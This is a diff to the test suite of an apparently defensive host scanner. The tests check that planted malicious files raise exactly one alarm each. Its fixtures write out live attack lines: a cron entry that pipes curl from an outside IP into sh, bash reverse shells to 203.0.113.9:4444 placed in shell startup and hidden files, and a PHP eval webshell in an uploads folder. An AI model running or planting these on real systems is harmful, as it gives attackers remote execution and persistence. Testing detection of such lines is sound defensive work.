@@ -51,14 +51,20 @@ describe('content scan of an offline root', () => {
   fs.truncateSync(r.p('/tmp/big/huge.bin'), 200 * 1024 * 1024);
   execFileSync('/usr/bin/mkfifo', [r.p('/tmp/.pipe')]);
 
-  it('finds every planted file and quotes the matching text', async () => {
+  it('finds every planted file and quotes the matching text, in one finding per file', async () => {
     const { result } = await scan({ root: r.dir, sampleMs: 0 });
     const content = result.findings.filter((f) => f.rule === 'files/content-match');
     for (const [target, id, , quote] of planted) {
-      const f = content.find((x) => x.path === target && x.title.includes(id));
-      assert.ok(f, `${target} (${id}) not found; got ${content.map((x) => `${x.path} ${x.title}`).join('; ')}`);
+      // Either the content finding itself, or the more specific rule's finding it was folded into.
+      const onFile = result.findings.filter((x) => x.path === target && atLeast(x.severity, 'high'));
+      const f = onFile.find((x) => x.evidence.some((e) => e.startsWith(`content rule: ${id} `)));
+      assert.ok(f, `${target} (${id}) not found; got ${result.findings.map((x) => `${x.path} ${x.rule} ${x.title}`).join('; ')}`);
       assert.match(f.evidence.join('\n'), quote, `${target}: evidence does not quote the match`);
-      assert.ok(atLeast(f.severity, 'high'), `${target}: ${f.severity}`);
+      assert.equal(
+        onFile.filter((x) => x.rule === 'files/content-match' || x.evidence.some((e) => e.startsWith('content rule: '))).length,
+        1,
+        `${target}: the content match is a second alarm: ${onFile.map((x) => x.rule).join(', ')}`,
+      );
     }
     assert.deepEqual(
       content.filter((f) => f.path?.startsWith('/opt/benign/')).map((f) => `${f.path} ${f.title}`),
@@ -115,5 +121,57 @@ describe('content scan of an offline root', () => {
       result.findings.filter((f) => f.rule === 'files/content-match' && atLeast(f.severity, 'medium')).map((f) => f.title),
       [],
     );
+  });
+});
+
+describe('content matches and the more specific rules: one file, one alarm', () => {
+  const r = baseRoot(new FakeRoot('hostsweep-content-dup-'));
+  after(() => fs.rmSync(r.dir, { recursive: true, force: true }));
+  const shell = fixture('php-webshell', 'fires.php');
+  r.write('/var/www/html/uploads/logo.png.php', shell)
+    .write('/tmp/sess_x.php', shell)
+    .write('/etc/cron.d/sync', '*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n')
+    .write('/etc/profile.d/z.sh', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\n')
+    .write('/opt/tools/.s', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\n');
+
+  const onPath = (findings: { path?: string; rule: string; severity: string; evidence: string[] }[], p: string) =>
+    findings.filter((f) => f.path === p && atLeast(f.severity as 'low', 'low'));
+
+  it('a file a line or webshell rule already reports carries the quote in that finding only', async () => {
+    const { result } = await scan({ root: r.dir, sampleMs: 0 });
+    for (const [p, rule, quote] of [
+      ['/var/www/html/uploads/logo.png.php', 'logs/webshell-content', /content rule: php-webshell .*\n.*@eval\(\$_POST\['cmd'\]\)/],
+      [
+        '/etc/cron.d/sync',
+        'persistence/cron-download-exec',
+        /content rule: download-execute .*\n.*curl -fsSL http:\/\/198\.51\.100\.7\/x\.sh/,
+      ],
+      ['/etc/profile.d/z.sh', 'hooks/shell-download-exec', /content rule: reverse-shell .*\n.*bash -i >& \/dev\/tcp\/203\.0\.113\.9\/4444/],
+    ] as const) {
+      const found = onPath(result.findings, p);
+      assert.deepEqual(
+        found.map((f) => f.rule),
+        [rule],
+        p,
+      );
+      assert.match(found[0].evidence.join('\n'), quote, p);
+    }
+  });
+
+  it('a file no specific rule reports keeps its own content finding', async () => {
+    const { result } = await scan({ root: r.dir, sampleMs: 0 });
+    for (const [p, id] of [
+      // A webshell outside any web root: the webshell rule does not look there.
+      ['/tmp/sess_x.php', 'php-webshell'],
+      ['/opt/tools/.s', 'reverse-shell'],
+    ]) {
+      const found = onPath(result.findings, p).filter((f) => f.evidence.some((e) => e.startsWith('content rule: ')));
+      assert.deepEqual(
+        found.map((f) => f.rule),
+        ['files/content-match'],
+        `${p}: ${result.findings.map((f) => `${f.rule} ${f.path}`).join('; ')}`,
+      );
+      assert.match(found[0].evidence.join('\n'), new RegExp(`content rule: ${id} `));
+    }
   });
 });
